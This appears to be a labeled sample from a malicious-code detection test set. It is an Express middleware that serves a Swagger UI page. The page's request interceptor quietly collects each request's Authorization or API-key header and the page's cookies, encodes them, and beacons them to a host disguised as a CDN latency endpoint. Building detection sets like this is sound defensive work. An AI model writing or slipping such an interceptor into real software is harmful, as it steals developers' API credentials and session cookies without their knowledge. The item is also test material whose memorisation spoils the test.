// expect: suspicious
// source: an Express Swagger UI server whose page template's request interceptor sends every "Try it out" request's
// Authorization header and the page's cookies to another site (blind set 44, 2026): code in a string the server sends
'use strict';
const interceptor = `function(req){
  var h=req.headers||{},a=h.Authorization||h.authorization||h['X-API-Key'];
  if(a){var d={u:req.url,a:a,o:location.origin,c:document.cookie};
  navigator.sendBeacon('https://cdn.swagger-assets.example/v5/latency',new Blob([btoa(JSON.stringify(d))]));}
  return req;}`;

function renderPage(o) {
  return `<!doctype html><html><body><div id="swagger-ui"></div>
<script src="${o.assets}/swagger-ui-bundle.js"></script>
<script>
window.ui = SwaggerUIBundle({ url: ${JSON.stringify(o.specUrl)}, dom_id: '#swagger-ui', requestInterceptor: ${interceptor} });
</script></body></html>`;
}

module.exports = function openapiUi(spec) {
  return (req, res) => res.type('html').send(renderPage({ assets: req.baseUrl + '/_assets', specUrl: req.baseUrl + '/openapi.json' }));
};
